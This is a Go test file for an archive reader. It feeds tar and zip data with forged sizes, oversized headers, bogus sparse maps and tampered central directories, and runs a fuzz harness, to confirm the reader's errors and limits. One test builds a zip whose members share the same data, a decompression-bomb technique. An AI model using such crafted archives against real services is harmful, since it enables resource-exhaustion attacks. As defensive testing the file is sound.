		part []byte
		want error
		says string
	}{
		{"size beyond the rest", header("big", tar.TypeReg, 1<<40, nil), errCutOff, `member "big"`},
		{"size of 2^63-1", header("big", tar.TypeReg, 1<<63-1, nil), errCutOff, `"big"`},
		{"size below zero", header("neg", tar.TypeReg, 0, func(b []byte) { copy(b[124:], bytes.Repeat([]byte{0xff}, 12)) }), errCorrupt, `after member "before"`},
		{"size that is no number", header("x", tar.TypeReg, 0, func(b []byte) { copy(b[124:], "what") }), errCorrupt, `after member "before"`},
		{"PAX of two megabytes", join(pax("comment", strings.Repeat("c", 2<<20)), header("x", tar.TypeReg, 0, nil)), tar.ErrFieldTooLong, `after member "before"`},
		{"name of two megabytes", join(header("L", 'L', 2<<20, nil), bytes.Repeat([]byte("n"), 2<<20)), tar.ErrFieldTooLong, `after member "before"`},
		{"PAX that is none", join(header("x", 'x', 5, nil), pad([]byte("hello"))), errCorrupt, `after member "before"`},
		{"PAX size below zero", join(pax("size", "-1"), header("x", tar.TypeReg, 0, nil)), errCorrupt, `after member "before"`},
		{"sparse without a map", join(pax("GNU.sparse.major", "1", "GNU.sparse.minor", "0"), header("x", tar.TypeReg, 0, nil)), errCutOff, `after member "before"`},
		{"sparse with a map without end", join(pax("GNU.sparse.major", "1", "GNU.sparse.minor", "0"), header("x", tar.TypeReg, 2<<20, nil), bytes.Repeat([]byte("1"), 2<<20)), errCorrupt, `after member "before"`},
		{"sparse map of 2^62 entries", join(pax("GNU.sparse.major", "0", "GNU.sparse.minor", "1", "GNU.sparse.numblocks", fmt.Sprint(1<<62-1), "GNU.sparse.map", "0,3"), header("x", tar.TypeReg, 0, nil)), errCorrupt, `after member "before"`},
		{"one zero block", make([]byte, 512), errCorrupt, `after member "before"`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			list, err := members(t, join(before, tt.part, after), defaultLimits)
			wantError(t, err, tt.want, tt.says)
			wantMembers(t, list[:1], []got{{Name: "before", Size: 1, Content: "x", ModTime: testTime}})
		})
	}
}

// editZip changes the nth header of the directory.
func editZip(data []byte, n int, change func(header []byte)) []byte {
	data = bytes.Clone(data)
	at := 0
	for ; n >= 0; n-- {
		at += bytes.Index(data[at:], []byte("PK\x01\x02")) + 4
	}
	change(data[at-4:])
	return data
}

func TestZipLies(t *testing.T) {
	list := []got{{Name: "before", Content: "first content"}, {Name: "liar", Content: strings.Repeat("second content ", 10)}, {Name: "after", Content: "third content"}}
	data := makeZip(t, list, zip.Deflate)
	le := binary.LittleEndian
	for _, tt := range []struct {
		name   string
		change func(h []byte)
		want   error
		says   string
	}{
		{"a larger size", func(h []byte) { le.PutUint32(h[24:], 1<<31) }, errCutOff, ""},
		{"a smaller size", func(h []byte) { le.PutUint32(h[24:], 5) }, errCorrupt, "longer"},
		{"more compressed", func(h []byte) { le.PutUint32(h[20:], 1<<31) }, errCutOff, ""},
		{"less compressed", func(h []byte) { le.PutUint32(h[20:], 3) }, errCutOff, ""},
		{"another checksum", func(h []byte) { h[16] ^= 1 }, zip.ErrChecksum, "checksum"},
		{"an offset beyond the end", func(h []byte) { le.PutUint32(h[42:], 1<<31) }, errCutOff, ""},
		{"another offset", func(h []byte) { le.PutUint32(h[42:], 1) }, errCorrupt, "directory"},
		{"a password", func(h []byte) { h[8] |= 1 }, errEncrypted, "encrypted"},
		{"an unknown method", func(h []byte) { h[10] = 99 }, zip.ErrAlgorithm, "99"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var names string
			err := readArchive(context.Background(), openData(t, editZip(data, 1, tt.change)), defaultLimits, func(m *member) error {
				names += m.name + " "
				content, err := io.ReadAll(m.r)
				if _, again := m.r.Read(make([]byte, 1)); err != nil && again != err {
					t.Errorf("%s: %v, then %v", m.name, err, again)
				}
				switch {
				case m.name == "liar" && tt.want != nil:
					wantError(t, err, tt.want, `member "liar": `, tt.says)
				case err != nil:
					t.Errorf("%s: %v", m.name, err)
				case m.name != "liar" && !strings.HasSuffix(string(content), "content"):
					t.Errorf("%s: %q", m.name, content)
				}
				return nil
			})
			if err != nil || names != "before liar after " {
				t.Errorf("members %s, error %v", names, err)
			}
		})
	}
}

func TestZipOverlapping(t *testing.T) {
	random := make([]byte, 50_000)
	rand.NewChaCha8([32]byte{3}).Read(random)
	var list []got
	for i := range 100 {
		list = append(list, got{Name: fmt.Sprint(i), Content: "small"})
	}
	list[0].Content = string(random)
	data := makeZip(t, list, zip.Store)
	first := bytes.Clone(data[bytes.Index(data, []byte("PK\x01\x02")):])
	at := 0
	for range list {
		at += bytes.Index(data[at:], []byte("PK\x01\x02")) + 4
		copy(data[at-4+16:at-4+28], first[16:28]) // checksum and sizes
		copy(data[at-4+42:at-4+46], first[42:46]) // offset
	}
	delivered := 0
	err := readArchive(context.Background(), openData(t, data), tightLimits, func(m *member) error {
		n, err := io.Copy(io.Discard, m.r)
		delivered += int(n)
		return err
	})
	wantError(t, err, errLimit, `member "`, "members share their data")
	if delivered > len(data)+maxReadAhead {
		t.Errorf("%d bytes were handed over", delivered)
	}
}

func TestZipDirectory(t *testing.T) {
	t.Parallel()
	var list []got
	for i := range 30 {
		list = append(list, got{Name: fmt.Sprint(i)})
	}
	le := binary.LittleEndian
	end := func(data []byte) []byte { return data[len(data)-22:] }

	data := makeZip(t, list, zip.Store)
	le.PutUint16(end(data)[10:], 60_000)
	_, err := members(t, data, tightLimits)
	wantError(t, err, errLimit, "claims 60,000 members", "1,000")

	data = makeZip(t, list, zip.Store)
	le.PutUint32(end(data)[12:], 1<<30)
	_, err = members(t, data, tightLimits)
	wantError(t, err, errLimit, "directory of 1,073,741,824 bytes", "33,554,432")

	// The same in the record of zip64, whose numbers have 64 bits.
	for _, tt := range []struct {
		at   int
		n    uint64
		says string
	}{{32, 1 << 60, "members"}, {32, 1<<64 - 1, "members"}, {40, 1 << 60, "bytes"}} {
		data = makeZip(t, list, zip.Store)
		e64 := make([]byte, 56)
		copy(e64, "PK\x06\x06")
		le.PutUint64(e64[tt.at:], tt.n)
		loc := make([]byte, 20)
		copy(loc, "PK\x06\x07")
		le.PutUint64(loc[8:], uint64(len(data)-22))
		le.PutUint32(loc[16:], 1)
		last := bytes.Clone(end(data))
		le.PutUint16(last[10:], 0xffff)
		_, err = members(t, join(data[:len(data)-22], e64, loc, last), defaultLimits)
		wantError(t, err, errLimit, "it claims", tt.says)
	}

	// A directory that is longer than it claims. archive/zip reads on as long
	// as there are headers, and compares the last 16 bits of their number.
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for range 600 {
		_, err := w.CreateHeader(&zip.FileHeader{Name: "x", Comment: strings.Repeat("\xff", 65535)})
		must(t, err)
	}
	must(t, w.Close())
	data = b.Bytes()
	_, err = members(t, data, tightLimits)
	wantError(t, err, errLimit, "it claims a directory of")
	le.PutUint32(end(data)[12:], 1000)
	_, err = members(t, data, tightLimits)
	wantError(t, err, errLimit, "directory: ", "more than 33,554,432 bytes")

	// More members than are claimed, but not more than archive/zip accepts.
	lim := tightLimits
	lim.members = 10
	data = makeZip(t, list, zip.Store)
	le.PutUint16(end(data)[10:], 10)
	_, err = members(t, data, lim)
	wantError(t, err, errCorrupt)
}

func TestArchiveOwnErrors(t *testing.T) {
	mine := errors.New("mine")
	for name, data := range map[string][]byte{"tar": gz(makeTar(t, tree(), tar.FormatGNU)), "zip": makeZip(t, tree(), zip.Deflate)} {
		calls := 0
		err := readArchive(context.Background(), openData(t, data), defaultLimits, func(m *member) error {
			if calls++; calls == 3 {
				return mine
			}
			return nil
		})
		if err != mine || calls != 3 {
			t.Errorf("%s: %v after %d calls", name, err, calls)
		}

		ctx, cancel := context.WithCancel(context.Background())
		calls = 0
		err = readArchive(ctx, openData(t, data), defaultLimits, func(m *member) error {
			calls++
			cancel()
			_, err := m.r.Read(make([]byte, 1))
			wantError(t, err, context.Canceled, tree()[0].Name)
			return nil
		})
		wantError(t, err, context.Canceled)
		if calls != 1 {
			t.Errorf("%s: %d calls", name, calls)
		}

		calls = 0
		must(t, readArchive(context.Background(), openData(t, data), defaultLimits, func(*member) error { calls++; return nil }))
		if calls != len(tree()) {
			t.Errorf("%s: %d members without reading any", name, calls)
		}
	}
}

func FuzzArchive(f *testing.F) {
	list := []got{{Name: "a", Content: "some content", ModTime: testTime}, {Name: "dir/", Mode: fs.ModeDir}, {Name: "dir/b", Content: strings.Repeat("b", 2000)}}
	gnu := makeTar(f, list, tar.FormatGNU)
	for _, seed := range [][]byte{
		gnu, makeTar(f, list, tar.FormatPAX), gz(gnu), gz(gnu[:700], gnu[700:]), join(gz(gnu), make([]byte, 10)), zst(gnu), join(zst(gnu), make([]byte, 10)),
		gz(gnu)[:200], gz(zeros), zst(zeros), makeZip(f, list, zip.Store), makeZip(f, list, zip.Deflate), makeZip(f, list, zstd.ZipMethodWinZip),
		makeZip(f, nil, zip.Store), endMark, join(gnu, gnu),
	} {
		f.Add(seed)
	}
	for _, part := range sparse() {
		f.Add(join(part, gnu))
	}
	for _, name := range []string{"tree.tar.bz2", "zeros.tar.bz2"} {
		data, err := os.ReadFile("testdata/archive/" + name)
		must(f, err)
		f.Add(data)
	}
	lim := limits{members: 100, bytes: 2 << 20, ratio: 200, free: 256 << 10}
	f.Fuzz(func(t *testing.T, data []byte) {
		file := openData(t, data)
		if _, err := isArchive(file); err != nil {
			t.Errorf("isArchive: %v", err)
		}
		var calls, delivered int64
		err := readArchive(context.Background(), file, lim, func(m *member) error {
			calls++
			n, err := io.Copy(io.Discard, m.r)
			delivered += n
			if m.mode&^fs.ModeType != 0 || m.size < -1 {
				t.Errorf("mode %v, size %d", m.mode, m.size)
			}
			if err != nil && !strings.HasPrefix(err.Error(), `member "`) {
				t.Errorf("%v does not name the member", err)
			}
			return nil
		})
		most := min(lim.bytes, lim.free+lim.ratio*int64(len(data)))
		if calls > lim.members || delivered > most {
			t.Errorf("%d members, %d bytes of %d", calls, delivered, len(data))
		}
		if err != nil && !errors.Is(err, errCutOff) && !errors.Is(err, errCorrupt) && !errors.Is(err, errLimit) {
			t.Errorf("an error of no kind: %v", err)
		}
	})
}
